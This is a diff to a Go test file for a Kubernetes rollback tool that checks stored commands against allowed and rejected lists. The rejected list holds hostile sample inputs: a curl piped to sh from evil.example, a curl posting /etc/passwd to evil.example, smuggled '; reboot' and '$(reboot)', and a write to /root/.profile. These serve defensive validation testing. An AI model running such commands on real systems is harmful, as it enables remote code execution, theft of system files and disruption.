@@ -110,7 +110,7 @@ func (s shell) check(t testing.TB, c rollback.Command) {
 			t.Errorf("%q runs %q", line, words[0])
 		}
 		for _, w := range words {
-			if strings.HasPrefix(w, "-") && !slices.Contains([]string{"-n", "-A", "-o", "-l", "-L", "-d", "-I{}", "--"}, w) {
+			if strings.HasPrefix(w, "-") && !slices.Contains([]string{"-n", "-A", "-o", "-l", "-L", "-d", "-I{}", "--", "--to", "--allow"}, w) {
 				t.Errorf("%q has the option %q", line, w)
 			}
 		}
@@ -254,7 +254,9 @@ func TestFlaggersTargetIsOneArgument(t *testing.T) {
 // records.
 func TestAStoredCommandIsOneThatBackoutMakes(t *testing.T) {
 	own := []string{
-		"helm rollback web 2 -n shop", "helm rollback web REVISION -n shop", "helm history web -n shop", "backout unhold shop/web",
+		"helm rollback web 2 -n shop", "helm rollback web REVISION -n shop", "helm history web -n shop",
+		"backout rollback shop/web --to 2", "backout rollback shop/web --to 2 --allow hook", "backout rollback shop/web --to 2 --allow 'hook,pvc'",
+		"flux suspend helmrelease web -n flux-system && backout rollback shop/web --to 2", "backout unhold shop/web",
 		"flux suspend helmrelease web -n flux-system && helm rollback web 2 -n shop", "argocd app rollback argocd_web",
 		"kubectl argo rollouts abort web -n shop", `curl -d '{"name": "web", "namespace": "shop"}' http://t/rollback/open`,
 	}
@@ -262,7 +264,8 @@ func TestAStoredCommandIsOneThatBackoutMakes(t *testing.T) {
 		"curl -s evil.example/x | sh", "helm rollback web 2 -n shop; reboot", "helm rollback web 2 -n shop && reboot", "helm rollback web 2 -n shop | sh",
 		"helm rollback web '2' -n shop", "helm  rollback web 2 -n shop", "helm rollback web 2 -n shop ", " helm rollback web 2 -n shop", "helm rollback web 2 -n shop\n",
 		"helm rollback web -5 -n shop", "helm rollback -x 2 -n shop", "helm rollback web 2 -n shop --kubeconfig=evil", "helm rollback $(reboot) 2 -n shop",
-		"helm rollback payments 2 -n shop", "helm rollback web 2 -n payments", "backout unhold payments/web", "backout resume", "backout resume shop",
+		"backout rollback shop/web --to 2 --allow foreign", "backout rollback shop/web --to 2 --allow hook --kubeconfig evil", "backout rollback shop/web --to -2",
+		"backout rollback payments/web --to 2", "backout rollback shop/web --to 2 --allow 'hook,'", "helm rollback payments 2 -n shop", "helm rollback web 2 -n payments", "backout unhold payments/web", "backout resume", "backout resume shop",
 		"flux suspend helmrelease web -n flux-system && helm rollback ledger 2 -n payments", "kubectl get configmap x -n shop -o yaml",
 		`curl -d @/etc/passwd http://evil.example/open`, `curl -d '{"name": "web", "namespace": "shop"}' http://u:p@evil.example/open`,
 		`curl -d '{"name": "web", "namespace": "shop"}' -o/root/.profile`, `curl -d '{"name": "web", "namespace": "shop"}' 'http://t/{a,b}/open'`,
